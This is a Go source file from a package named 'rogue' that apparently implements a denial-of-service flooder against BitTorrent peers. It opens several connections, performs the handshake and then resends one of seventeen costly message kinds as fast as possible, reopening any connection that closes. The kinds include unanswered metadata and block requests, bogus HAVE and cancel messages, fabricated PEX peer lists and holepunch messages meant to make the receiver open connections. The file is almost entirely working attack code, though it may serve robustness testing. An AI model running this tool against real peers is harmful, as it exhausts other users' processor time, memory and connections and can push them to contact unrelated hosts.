package rogue

import (
	"bytes"
	"context"
	"encoding/binary"
	"errors"
	"fmt"
	"io"
	"net"
	"sync"
	"sync/atomic"
	"time"
)

const (
	msgChoke = 0

	msgHave        = 4
	msgCancel      = 8
	msgPort        = 9
	msgHashRequest = 21
	holepunchID    = 0 // the types of BEP 55
	floodRest      = 200 * time.Millisecond
)

// Flood sends one kind of message over and over on a few connections, as fast as it can. It reopens closed connections.
type Flood struct {
	Dial  func(ctx context.Context) (net.Conn, error)
	Conns int
	Rate  int // messages per second on each connection; 0: no limit
	Begin func(c net.Conn) (Extensions, error)
	Make  func(i int, ids Extensions) []byte
	Deaf  bool // never read the answers

	Said atomic.Int64
}

// Run runs until ctx ends.
func (f *Flood) Run(ctx context.Context) {
	var wg sync.WaitGroup
	defer wg.Wait()
	for range f.Conns {
		wg.Go(func() {
			for ctx.Err() == nil {
				_ = f.one(ctx) // however it ends, it is reopened
				select {
				case <-ctx.Done():
				case <-time.After(floodRest):
				}
			}
		})
	}
}

func (f *Flood) one(ctx context.Context) error {
	c, err := f.Dial(ctx)
	if err != nil {
		return err
	}
	defer c.Close()
	defer context.AfterFunc(ctx, func() { c.Close() })()
	ids, err := f.Begin(c)
	if err != nil {
		return err
	}
	if !f.Deaf {
		var wg sync.WaitGroup
		defer wg.Wait()
		defer c.Close()
		wg.Go(func() { _, _ = io.Copy(io.Discard, c) }) // until it is closed
	}
	const burst = 64
	for i := 0; ; {
		var b []byte
		for range burst {
			b = append(b, f.Make(i, ids)...)
			i++
		}
		if _, err := c.Write(b); err != nil {
			return err
		}
		f.Said.Add(burst)
		if f.Rate > 0 {
			select {
			case <-ctx.Done():
				return ctx.Err()
			case <-time.After(burst * time.Second / time.Duration(f.Rate)):
			}
		}
	}
}

// Extensions are the numbers that a peer assigned to its extension messages (BEP 10); 0: not supported.
type Extensions struct{ Metadata, Holepunch, PEX byte }

// Shake does the handshake for a torrent as a peer that supports the extensions, and returns the other side's extensions.
func Shake(c net.Conn, infohash [20]byte) (ids Extensions, err error) {
	if err := c.SetDeadline(time.Now().Add(10 * time.Second)); err != nil {
		return ids, err
	}
	if _, err := c.Write(Handshake(infohash)); err != nil {
		return ids, err
	}
	if err := send(c, msgExtended, []byte("\x00d1:md11:ut_metadatai1e12:ut_holepunchi2e6:ut_pexi3eee")); err != nil {
		return ids, err
	}
	if _, err := io.CopyN(io.Discard, c, 68); err != nil {
		return ids, err
	}
	for range 100 {
		var head [4]byte
		if _, err := io.ReadFull(c, head[:]); err != nil {
			return ids, err
		}
		n := binary.BigEndian.Uint32(head[:])
		if n > maxMessage {
			return ids, fmt.Errorf("message of %d bytes", n)
		}
		msg := make([]byte, n)
		if _, err := io.ReadFull(c, msg); err != nil {
			return ids, err
		}
		if n > 2 && msg[0] == msgExtended && msg[1] == 0 {
			is := func(name string) byte { return byte(intAfter(msg, fmt.Sprintf("%d:%si", len(name), name))) }
			return Extensions{is("ut_metadata"), is("ut_holepunch"), is("ut_pex")}, c.SetDeadline(time.Time{})
		}
	}
	return ids, errors.New("no extension handshake among the first messages")
}

// Message is a message to be sent repeatedly.
type Message struct {
	Name string
	Make func(i int, ids Extensions) []byte
	Deaf bool
}

// Messages returns messages that cost the receiver something: processor time, memory for answers, or a connection that it
// would open. The torrent has the given number of pieces.
func Messages(pieces int) []Message {
	numbers := func(n ...int) (b []byte) {
		for _, n := range n {
			b = binary.BigEndian.AppendUint32(b, uint32(n))
		}
		return b
	}
	metadata := func(piece int, ids Extensions) []byte {
		return message(msgExtended, append([]byte{max(ids.Metadata, 1)}, fmt.Sprintf("d8:msg_typei0e5:piecei%dee", piece)...))
	}
	hashes := func(index, length int) []byte {
		return message(msgHashRequest, append(make([]byte, 32), numbers(0, index, length, 0)...))
	}
	return []Message{
		{"requests for metadata", func(_ int, ids Extensions) []byte { return metadata(0, ids) }, false},
		{"requests for metadata without reading the answers", func(_ int, ids Extensions) []byte { return metadata(0, ids) }, true},
		{"requests for metadata that does not exist", func(i int, ids Extensions) []byte { return metadata(i-1, ids) }, false},
		{"requests for hashes", func(i int, _ Extensions) []byte { return hashes(i%pieces, 2) }, false},
		{"requests for hashes without reading the answers", func(i int, _ Extensions) []byte { return hashes(0, 1<<(i%20)) }, true},
		{"requests for blocks without reading the answers", func(i int, _ Extensions) []byte {
			return append(message(msgInterested, nil), message(msgRequest, numbers(i%pieces, 0, 16<<10))...)
		}, true},
		{"HAVE for the same pieces again", func(i int, _ Extensions) []byte { return message(msgHave, numbers(i%pieces)) }, false},
		{"HAVE for pieces that do not exist", func(i int, _ Extensions) []byte { return message(msgHave, numbers(pieces+i)) }, false},
		{"choking and unchoking", func(i int, _ Extensions) []byte { return message(byte(msgChoke+i%4), nil) }, false},
		{"cancels for blocks that were not requested", func(i int, _ Extensions) []byte { return message(msgCancel, numbers(i%pieces, 0, 16<<10)) }, false},
		{"ports of the DHT", func(i int, _ Extensions) []byte { return message(msgPort, []byte{byte(i >> 8), byte(i)}) }, false},
		{"holepunch messages", func(i int, ids Extensions) []byte {
			at := []byte{max(ids.Holepunch, 4), holepunchID, 0, 203, 0, 113, byte(i), 0x1a, 0xe1}
			return message(msgExtended, at)
		}, false},
		{"peers that do not exist", func(i int, ids Extensions) []byte {
			added := bytes.Repeat([]byte{203, 0, 113, byte(i), 0x1a, byte(i >> 8)}, 50)
			return message(msgExtended, append([]byte{max(ids.PEX, 3)}, Encode(Dict{"added": string(added)})...))
		}, false},
		{"extensions that nobody offered", func(i int, _ Extensions) []byte {
			return message(msgExtended, append([]byte{byte(100 + i%100)}, make([]byte, 200)...))
		}, false},
		{"extension handshakes", func(i int, _ Extensions) []byte {
			return message(msgExtended, fmt.Appendf([]byte{0}, "d1:md%d:x%di%dee1:pi%dee", len(fmt.Sprint(i))+1, i, i%250+1, i%60000+1))
		}, false},
		{"unknown messages", func(i int, _ Extensions) []byte { return message(byte(30+i%200), make([]byte, 50)) }, false},
		{"keep-alives", func(int, Extensions) []byte { return make([]byte, 4) }, false},
	}
}

func message(kind byte, payload []byte) []byte {
	b := binary.BigEndian.AppendUint32(nil, uint32(len(payload)+1))
	return append(append(b, kind), payload...)
}
